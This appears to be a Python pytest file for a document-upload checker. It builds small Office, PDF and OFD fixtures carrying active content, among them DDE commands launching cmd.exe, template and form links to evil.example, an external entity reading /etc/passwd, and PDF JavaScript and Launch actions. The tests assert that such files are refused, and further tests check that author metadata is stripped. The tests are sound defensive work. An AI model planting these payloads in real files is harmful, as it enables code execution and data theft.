"""Files that would do something on the computer of whoever opens them, and files that only look as if."""

import io
import re
import zipfile
import zlib

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment

from tests.units.test_uploads import (
    PDF,
    compound,
    docx,
    judge,
    ofd,
    package,
    picture,
    saved,
    taken,
    with_parts,
    xlsx,
)
from units.uploads.facts import UploadRefused

RELATION = (
    '<Relationship Id="rX" Type="http://schemas.openxmlformats.org/{base}/{kind}" Target="{target}"{mode}/>'
)
BASE = "officeDocument/2006/relationships"


def changed(content, part, old, new):
    """The package with a piece of one part replaced."""

    def change(name, data):
        if name != part:
            return data
        assert old.encode() in data
        return data.replace(old.encode(), new.encode(), 1)

    return with_parts(content, change)


def related(kind, target, mode=' TargetMode="External"', content=None, part="word/_rels/document.xml.rels"):
    relation = RELATION.format(base=BASE, kind=kind, target=target, mode=mode)
    return changed(content or docx(), part, "</Relationships>", relation + "</Relationships>")


def worded(xml, content=None):
    return changed(content or docx(), "word/document.xml", "<w:body>", f"<w:body><w:p>{xml}</w:p>")


def field(*codes):
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def formula(text):
    book = Workbook()
    book.active["A1"] = f"={text}"
    return saved(book)


def pdf(*objects):
    body = b"\n".join(b"%d 0 obj\n%s\nendobj" % (number, one) for number, one in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def stream(head, data):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (head, len(data), data)


def packed(data):
    return zlib.compress(data)


HIDDEN = b"9 0 <</S/JavaScript/JS(app.alert(1))>>"
WHOLE = package(**{"a.txt": "x"})


def xls(*records):
    """A container whose book is these records."""
    body = b"".join(
        number.to_bytes(2, "little") + len(data).to_bytes(2, "little") + data for number, data in records
    )
    content = bytearray(compound("Workbook"))
    at = content.index("Workbook".encode("utf-16-le"))
    first = len(content) // 512 - 1
    content[at + 116 : at + 124] = first.to_bytes(4, "little") + len(body).to_bytes(4, "little")
    return bytes(content) + body.ljust(512, b"\0")


ACTIVE = {
    "external template": ("docx", related("attachedTemplate", "http://evil.example/t.dotm"), "外部模板"),
    "template of a disk": ("docx", related("attachedTemplate", "file:///C:/t.dotm"), "外部模板"),
    "external picture": ("docx", related("image", "http://evil.example/p.png"), "外部图片"),
    "external object": ("docx", related("oleObject", "mhtml:http://evil.example/x"), "嵌入了其他文件"),
    "unknown external": ("docx", related("whatever", "http://evil.example/x"), "外部内容"),
    "link to a program": ("docx", related("hyperlink", "ms-msdt:/id"), "超链接"),
    "link to a share": ("docx", related("hyperlink", "\\\\evil.example\\share"), "超链接"),
    "script link": ("docx", related("hyperlink", "javascript:alert(1)"), "超链接"),
    "dde": ("docx", worded(field("DDEAUTO c:\\\\windows\\\\cmd.exe")), "DDE"),
    "dde in pieces": ("docx", worded(field("DD", "EAU", "TO cmd")), "DDE"),
    "dde, simple": ("docx", worded('<w:fldSimple w:instr=" dde excel x"/>'), "DDE"),
    "dde in numbers": ("docx", worded(field(" QUOTE 68 68 69 65 85 84 79 ")), "DDE"),
    "text from elsewhere": ("docx", worded(field("INCLUDETEXT http://evil.example/x")), "DDE"),
    "ole": ("docx", with_parts(docx(), **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0x"}), "嵌入了其他文件"),
    "program": ("docx", with_parts(docx(), **{"word/media/evil.exe": b"MZ"}), "嵌入了其他文件"),
    "program under another name": ("docx", with_parts(docx(), **{"word/media/a.png": b"MZ\x90"}), "嵌入了其他文件"),
    "zip in zip": ("docx", with_parts(docx(), **{"word/media/a.bin": WHOLE}), "嵌入了其他文件"),
    "page inside": ("docx", with_parts(docx(), **{"word/afchunk.htm": b"<html>"}), "嵌入了其他文件"),
    "names that climb": ("docx", with_parts(docx(), **{"../../evil.xml": b"<x/>"}), "内部文件名异常"),
    "names of a disk": ("docx", with_parts(docx(), **{"C:\\evil.xml": b"<x/>"}), "内部文件名异常"),
    "entity": (
        "docx",
        with_parts(docx(), **{"word/x.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
        "外部实体",
    ),
    "entity, UTF-16": ("docx", with_parts(docx(), **{"word/x.xml": "<!DOCTYPE x><x/>".encode("utf-16")}), "外部实体"),
    "ribbon": ("docx", with_parts(docx(), **{"customUI/customUI.xml": b"<x/>"}), "自动执行"),
    "dde formula": ("xlsx", formula("cmd|' /C calc'!A0"), "DDE"),
    "web formula": ("xlsx", formula('WEBSERVICE("http://evil.example")'), "自动执行"),
    "dde link": ("xlsx", with_parts(xlsx(), **{"xl/externalLinks/externalLink1.xml": b"<e><ddeLink/></e>"}), "DDE"),
    "other workbook": (
        "xlsx",
        related("externalLinkPath", "file:///x.xlsx", content=xlsx(), part="xl/_rels/workbook.xml.rels"),
        "其他工作簿",
    ),
    "connection": ("xlsx", with_parts(xlsx(), **{"xl/connections.xml": b"<x/>"}), "数据连接"),
    "ofd with a program": ("ofd", with_parts(ofd(), **{"Doc_0/Attachs/a.exe": b"MZ"}), "嵌入了其他文件"),
    "ofd with a script": ("ofd", with_parts(ofd(), **{"Doc_0/Tag.xml": b"<a><JavaScript/></a>"}), "脚本"),
    "ofd, locked": ("ofd", with_parts(ofd(), **{"Encryptions.xml": b"<a/>"}), "加了密码"),
    "ofd with an entity": ("ofd", with_parts(ofd(), **{"Doc_0/x.xml": b"<!DOCTYPE x><x/>"}), "外部实体"),
    "wps with a package": ("wps", compound("WordDocument", "\x01Ole10Native"), "嵌入了其他文件"),
    "et with an object": ("et", compound("Workbook", "MBD00A1B2C3"), "嵌入了其他文件"),
    "et with old macros": ("et", xls((0x809, bytes(4)), (0x85, bytes(4) + b"\0\1" + b"x")), "带有宏"),
    "et, locked": ("et", xls((0x809, bytes(4)), (0x2F, bytes(6))), "加了密码"),
    "et linked by dde": ("et", xls((0x1AE, b"\1\0\6\0\0cmd\x03/C")), "DDE"),
    "pdf script": ("pdf", pdf(b"<</OpenAction<</S/JavaScript/JS(x)>>>>"), "脚本"),
    "pdf script, escaped": ("pdf", pdf(b"<</OpenAction<</S/J#61vaScr#69pt/JS(x)>>>>"), "脚本"),
    "pdf script, packed": ("pdf", pdf(b"<<>>", stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", packed(HIDDEN))), "脚本"),
    "pdf script, called a picture": (
        "pdf",
        pdf(b"<<>>", stream(b"/Type/Obj#53tm/Subtype/Image/N 1/First 4/Filter/FlateDecode", packed(HIDDEN))),
        "脚本",
    ),
    "pdf script, packed otherwise": (
        "pdf",
        pdf(b"<<>>", stream(b"/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", b"00>")),
        "无法检查",
    ),
    "pdf launch": ("pdf", pdf(b"<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>"), "启动程序"),
    "pdf with files": ("pdf", pdf(b"<</Names<</EmbeddedFiles 3 0 R>>>>"), "嵌入的文件"),
    "pdf form": ("pdf", pdf(b"<</AcroForm<</XFA 3 0 R>>>>"), "动态表单"),
    "pdf that sends": ("pdf", pdf(b"<</A<</S/SubmitForm/F(http://evil.example)>>>>"), "提交数据"),
    "pdf and page": ("pdf", b"%PDF-1.4<html><script>alert(1)</script>" + PDF, "PDF以外的内容"),
    "pdf with a page in a remark": ("pdf", PDF.replace(b"\n1 0", b"\n%<html>\n1 0", 1), "PDF以外的内容"),
    "pdf and zip": ("pdf", PDF + WHOLE, "PDF以外的内容"),
    "pdf, locked under an escaped name": ("pdf", PDF.replace(b"trailer<<>>", b"trailer<</#45ncrypt 4 0 R>>"), "加了密码"),
    "pdf, locked behind a remark": ("pdf", PDF.replace(b"trailer<<>>", b"trailer<</Encrypt %x\n4 0 R>>"), "加了密码"),
}  # fmt: skip


@pytest.mark.parametrize("which", ACTIVE)
def test_what_acts_when_it_is_opened_is_refused_in_plain_words(which):
    kind, content, words = ACTIVE[which]
    with pytest.raises(UploadRefused, match=words):
        judge(content, f"材料.{kind}")


def charted():
    """A document with a chart, whose figures Word keeps in a workbook of its own."""
    links = RELATION.format(base=BASE, kind="package", target="../embeddings/Sheet1.xlsx", mode="")
    return with_parts(
        docx(),
        **{
            "word/charts/chart1.xml": b"<c/>",
            "word/charts/_rels/chart1.xml.rels": f"<Relationships>{links}</Relationships>".encode(),
            "word/embeddings/Sheet1.xlsx": authored(),
        },
    )


def authored():
    book = Workbook()
    book.properties.creator = "张三"
    return saved(book)


HARMLESS = {
    "a page of the web": ("docx", related("hyperlink", "https://www.gov.cn/import/dde?a=1")),
    "an address in a field": ("docx", worded(field('HYPERLINK "http://x.gov.cn/import/dde"'))),
    "a table of contents": ("docx", worded(field(" TOC \\o 1-3 ", "\\h"))),
    "a picture copied in WPS": ("docx", worded(field(" INCLUDEPICTURE C:\\Temp\\ksohtml\\wps.png "))),
    "a chart": ("docx", charted()),
    "sums": ("xlsx", formula("SUM(A1:A2)&\"|\"&'区局'!B1")),
    "a remark": ("pdf", PDF.replace(b"%%EOF", b"% /JavaScripts /Launched\n%%EOF")),
    "a link": ("pdf", pdf(b"<</OpenAction[3 0 R/Fit]/A<</S/URI/URI(https://www.gov.cn)>>>>")),
    "a picture": ("pdf", pdf(stream(b"/Subtype/Image/Filter/FlateDecode", packed(bytes(1000))))),
    "a page with blanks behind it": ("pdf", PDF + b"\r\n\0\0\n"),
}  # fmt: skip


@pytest.mark.parametrize("which", HARMLESS)
def test_what_offices_send_is_taken(which):
    kind, content = HARMLESS[which]
    assert judge(content, f"材料.{kind}").kind == kind
    assert taken(content, f"材料.{kind}")[1]["facts"].kind == kind


# ---------------------------------------------------------------- who made it


def camera():
    return picture(
        exif=b"Exif\0\0MM\0*\0\0\0\x08\0\1\1\x3b\0\2\0\0\0\7\0\0\0\x1a\0\0\0\0Li Si!\0", comment=b"Wang Wu"
    )


def of_zhang():
    """A document whose properties, remarks and pictures name people; its text names a unit."""
    document = Document()
    about = document.core_properties
    about.author, about.last_modified_by, about.title = "张三（区水利局）", "李四", "区水利局台账"
    run = document.add_paragraph().add_run("东营区")
    document.paragraphs[0].add_run("水利局服务群众")
    document.add_comment(run, text="改一下", author="王五", initials="王")
    document.add_picture(io.BytesIO(camera()))
    return saved(document)


def table_of_zhang():
    book = Workbook()
    about = book.properties
    about.creator, about.lastModifiedBy, about.company = "张三（区水利局）", "李四", "区水利局"
    book.active.append(["东营区水利局", 12])
    book.active["A1"].comment = Comment("改一下", "王五")
    return changed(
        saved(book),
        "xl/workbook.xml",
        "<sheets>",
        '<x15ac:absPath xmlns:x15ac="http://x" url="C:\\Users\\赵六\\"/><sheets>',
    )


def page_of_zhang(packed_away=False):
    about = "<</Author(张三)/Title<FEFF4E1C8425>/CreationDate(D:2026)>>".encode("gbk")
    metadata = stream(b"/Type/Metadata/Subtype/XML", "<x:xmpmeta>张三</x:xmpmeta>".encode())
    body = stream(b"/Filter/FlateDecode", packed(b"BT (Dongying) Tj ET"))
    if not packed_away:
        return pdf(metadata, body, about).replace(b"/Root 1 0 R", b"/Info 3 0 R")
    objects = stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", packed(b"3 0 " + about))
    return (
        pdf(metadata, body, b"null", objects)
        .replace(b"3 0 obj\nnull\nendobj\n", b"")
        .replace(b"/Root 1 0 R", b"/Info 3 0 R")
    )


def ofd_of_zhang():
    about = '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Author>张三</ofd:Author></ofd:OFD>'
    return with_parts(
        package(**{"OFD.xml": about, "Doc_0/P.xml": "<a><TextCode X='1'>东营区水利局</TextCode></a>"})
    )


def film_of_zhang():
    def box(kind, body=b""):
        return (8 + len(body)).to_bytes(4, "big") + kind + body

    notes = box(b"udta", box(b"\xa9xyz", "+37.43+118.67/张三".encode()))
    return (
        box(b"ftyp", b"isom" + bytes(8)) + box(b"moov", box(b"trak", notes) + notes) + box(b"mdat", bytes(50))
    )


NAMES = ["张三", "李四", "王五", "赵六", "Li Si", "Wang Wu", "4E1C"]


def inside(content):
    """All that lies in a file, unpacked as far as it goes."""
    everything = [content]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            everything += [inside(parts.read(name)) for name in parts.namelist()]
    for at in re.finditer(rb"stream\n", content):
        try:
            everything.append(zlib.decompressobj().decompress(content[at.end() :]))
        except zlib.error:
            continue
    return b"\n".join(everything)


MADE = {
    "docx": of_zhang(), "xlsx": table_of_zhang(), "pdf": page_of_zhang(), "ofd": ofd_of_zhang(),
    "mp4": film_of_zhang(), "jpg": camera(), "docx with a chart": charted(), "pdf, packed": page_of_zhang(packed_away=True),
}  # fmt: skip


@pytest.mark.parametrize("which", MADE)
def test_a_file_is_stored_without_the_names_of_its_makers(which):
    content, name = MADE[which], f"材料.{which.split()[0].strip(',')}"
    codes = ("utf-8", "gbk", "utf-16-be")
    assert any(one.encode(code) in inside(content) for one in NAMES for code in codes)
    stored, said = taken(content, name)
    assert not [one for one in NAMES for code in codes if one.encode(code) in inside(stored)]
    assert said["traces"] == []
    assert said["facts"].original_sha256 != said["facts"].sha256
    assert judge(stored, name).kind == said["facts"].kind


def test_clean_documents_open_as_before():
    document = Document(io.BytesIO(taken(of_zhang(), "a.docx")[0]))
    assert document.paragraphs[0].text == "东营区水利局服务群众"
    assert len(document.inline_shapes) == 1
    book = load_workbook(io.BytesIO(taken(table_of_zhang(), "a.xlsx")[0]))
    assert book.active["A1"].value == "东营区水利局"
    assert len(taken(page_of_zhang(), "a.pdf")[0]) == len(page_of_zhang())


@pytest.mark.parametrize("kind", ["docx", "xlsx", "ofd"])
def test_the_text_of_a_document_comes_along(kind):
    _, said = taken(MADE[kind], f"a.{kind}")
    assert "东营区水利局" in said["text"]
    assert said["is_read"]
    assert not [one for one in NAMES if one in said["text"]]


TABLE = b"1 beginbfrange <0001> <0002> <4E1C> endbfrange 2 beginbfchar <0003> <533A> <0004> <6C34> endbfchar"


def test_the_text_of_a_page_is_read_by_the_table_of_its_font():
    drawn = b"BT /F1 12 Tf [<0003>-20<0004>]TJ 0 -14 Td (\\000\\003) Tj ET BT /F2 9 Tf (Dong\\(ying\\)) Tj ET"
    content = pdf(
        b"<</Font<</F1 2 0 R/F2 5 0 R>>>>",
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 3 0 R>>",
        stream(b"/Filter/FlateDecode", packed(TABLE)),
        stream(b"/Filter/FlateDecode", packed(drawn)),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )
    _, said = taken(content, "a.pdf")
    assert said["text"].split() == ["区水区", "Dong(ying)"]
    assert said["is_read"]


def test_a_page_without_letters_or_with_a_dumb_font_says_that_it_was_not_read():
    scanned = pdf(stream(b"/Subtype/Image/Filter/DCTDecode", b"\xff\xd8\xff"))
    dumb = pdf(
        b"<</Font<</F1 2 0 R>>>>", b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H>>",
        stream(b"", b"BT /F1 12 Tf <0003> Tj ET"),
    )  # fmt: skip
    assert not taken(scanned, "a.pdf")[1]["is_read"]
    assert not taken(dumb, "a.pdf")[1]["is_read"]


def test_what_cannot_be_made_clean_says_so():
    signed = page_of_zhang().replace(b"trailer<<", b"trailer<</ByteRange[0 1 2 3]")
    stored, said = taken(signed, "a.pdf")
    assert stored == signed
    assert said["traces"] == ["张三", "东营"]
    sealed = with_parts(ofd_of_zhang(), **{"Doc_0/Signs/Signatures.xml": b"<x/>"})
    assert taken(sealed, "a.ofd")[1]["traces"] == ["张三"]
    assert taken(compound("WordDocument"), "a.wps")[1]["traces"] == ["wps文件记有作者和保存过的电脑"]
